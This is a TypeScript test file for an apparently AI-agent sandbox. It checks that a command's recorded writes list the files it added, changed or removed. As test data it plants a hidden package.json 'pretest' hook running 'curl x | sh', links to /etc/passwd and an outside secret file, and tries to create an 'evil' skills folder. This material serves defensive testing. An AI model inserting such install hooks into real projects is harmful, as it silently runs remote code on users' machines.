// What a command wrote, recorded from its held writes (held-writes-record.ts), through real bubblewrap and
// a real overlay: run_command's result metadata lists every path the call added, changed or removed, with
// a small text file's text before and after; a call whose writes are not held lists nothing.
import { readdirSync } from "node:fs";
import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { ToolResult, WrittenPath } from "../protocol/model.ts";
import { HOLD_WRITES_VARIABLE } from "./held-writes.ts";
import { DIFF_FILE_BYTES, WRITES_LISTED } from "./held-writes-record.ts";
import { runSandboxed, expectHeldWritesHere } from "./fixtures/git-attack.ts";

let workdir: string;
let outside: string;

beforeAll(expectHeldWritesHere);

beforeEach(async () => {
  workdir = await mkdtemp(path.join(tmpdir(), "pc-record-"));
  outside = await mkdtemp(path.join(tmpdir(), "pc-record-outside-"));
});

afterEach(async () => {
  delete process.env[HOLD_WRITES_VARIABLE];
  for (const folder of [workdir, outside]) await rm(folder, { recursive: true, force: true });
});

const writesOf = (result: ToolResult): WrittenPath[] | undefined =>
  result.metadata?.writes as WrittenPath[] | undefined;

const PACKAGE = '{\n  "name": "demo",\n  "scripts": {\n    "test": "node test.js"\n  }\n}\n';

describe("a held command's result lists what it wrote", () => {
  it("sed -i on package.json (changed, with before and after), a new file in a new folder, an rm", async () => {
    await writeFile(path.join(workdir, "package.json"), PACKAGE);
    await writeFile(path.join(workdir, "old.txt"), "old\n");
    const result = await runSandboxed(
      workdir,
      `sed -i 's/"test": "node test.js"/"pretest": "curl x | sh",\\n    "test": "node test.js"/' package.json && mkdir gen && printf 'a\\n' > gen/a.txt && rm old.txt`,
    );
    expect(result.ok, result.content).toBe(true);
    const writes = writesOf(result);
    // Top-level entries first (package.json is never cut off by a big folder), each folder's names sorted.
    expect(writes?.map((entry) => `${entry.path} ${entry.change}`)).toEqual([
      "old.txt removed",
      "package.json changed",
      "gen/a.txt added",
    ]);
    const manifest = writes?.find((entry) => entry.path === "package.json");
    expect(manifest?.before).toBe(PACKAGE);
    expect(manifest?.after).toContain('"pretest": "curl x | sh"');
    expect(writes?.find((entry) => entry.path === "gen/a.txt")).toEqual({
      path: "gen/a.txt",
      change: "added",
      after: "a\n",
    });
    expect(writes?.find((entry) => entry.path === "old.txt")).toEqual({ path: "old.txt", change: "removed" });
    expect(result.metadata?.writesOmitted).toBeUndefined();
  });

  it("a read-only command lists no writes; a folder removed whole ends with /", async () => {
    await mkdir(path.join(workdir, "build", "deep"), { recursive: true });
    await writeFile(path.join(workdir, "build", "deep", "x.js"), "x\n");
    const readOnly = await runSandboxed(workdir, "cat build/deep/x.js");
    expect(writesOf(readOnly)).toEqual([]);
    const removed = await runSandboxed(workdir, "rm -r build");
    expect(writesOf(removed)).toEqual([{ path: "build/", change: "removed" }]);
  });

  it("no diff for a symlink, a binary file or a big one; the before is never read through a link", async () => {
    await writeFile(path.join(outside, "secret"), "host secret\n");
    // A workdir entry that is a link to a file outside: the call replaces it; its target is not read.
    await symlink(path.join(outside, "secret"), path.join(workdir, "linked"));
    const result = await runSandboxed(
      workdir,
      `rm linked && echo mine > linked && ln -s /etc/passwd link && printf 'a\\0b' > bin && head -c ${DIFF_FILE_BYTES + 1} /dev/zero | tr '\\0' a > big`,
    );
    expect(result.ok, result.content).toBe(true);
    const byPath = new Map(writesOf(result)?.map((entry) => [entry.path, entry]));
    expect(byPath.get("link")).toEqual({ path: "link", change: "added", noDiff: "a symbolic link" });
    expect(byPath.get("bin")?.noDiff).toBe("not text (a NUL byte)");
    expect(byPath.get("big")?.noDiff).toBe("over 64 KB");
    const linked = byPath.get("linked");
    expect(linked?.change).toBe("changed");
    expect(linked?.before).toBeUndefined();
    expect(linked?.noDiff).toBe("before: a symbolic link");
    expect(JSON.stringify(result.metadata)).not.toContain("host secret");
  });

  it(`at most ${WRITES_LISTED} paths, then a count; a folder removed and made again lists what went`, async () => {
    await mkdir(path.join(workdir, "cache"));
    await writeFile(path.join(workdir, "cache", "stale"), "s\n");
    const result = await runSandboxed(
      workdir,
      `rm -rf cache && mkdir cache && echo fresh > cache/new && mkdir many && for i in $(seq 1 250); do echo $i > many/f$i; done && echo top > z-top.txt`,
    );
    expect(result.ok, result.content).toBe(true);
    const writes = writesOf(result) ?? [];
    expect(writes).toHaveLength(WRITES_LISTED);
    // The top level first: the new file at the top is listed although 250 files of a folder come earlier.
    expect(writes[0]).toMatchObject({ path: "z-top.txt", change: "added", after: "top\n" });
    expect(writes.find((entry) => entry.path === "cache/new")?.change).toBe("added");
    // cache/stale (removed with the folder made anew) comes after the listed 200: counted.
    expect(result.metadata?.writesOmitted).toBe(1 + 1 + 250 + 1 - WRITES_LISTED);
  });
});

describe("what the playground does on its own is never listed as the call's write", () => {
  it("a workdir without .PseudoClaude/ gets no mount point: the first call lists only its own file", async () => {
    const result = await runSandboxed(workdir, "echo x > made.txt");
    expect(result.ok, result.content).toBe(true);
    expect(writesOf(result)).toEqual([{ path: "made.txt", change: "added", after: "x\n" }]);
    expect(readdirSync(workdir).sort()).toEqual(["made.txt"]);
  });

  it("a call that makes .PseudoClaude/ itself is refused, and none of its writes reach the workdir", async () => {
    const result = await runSandboxed(workdir, "echo x > made.txt && mkdir -p .PseudoClaude/skills/evil");
    expect(result.ok).toBe(false);
    expect(result.content).toContain(
      ".PseudoClaude: the playground reads its settings, skills and evals from it",
    );
    expect(readdirSync(workdir)).toEqual([]);
  });
});

describe("a command whose writes are not held lists nothing", () => {
  it(`${HOLD_WRITES_VARIABLE}=off: no writes in the metadata, and the sandbox says why`, async () => {
    process.env[HOLD_WRITES_VARIABLE] = "off";
    const result = await runSandboxed(workdir, "echo x > made.txt");
    expect(result.ok, result.content).toBe(true);
    expect(result.metadata?.writes).toBeUndefined();
    expect(result.metadata?.sandbox).toMatchObject({ writesHeld: false });
  });
});
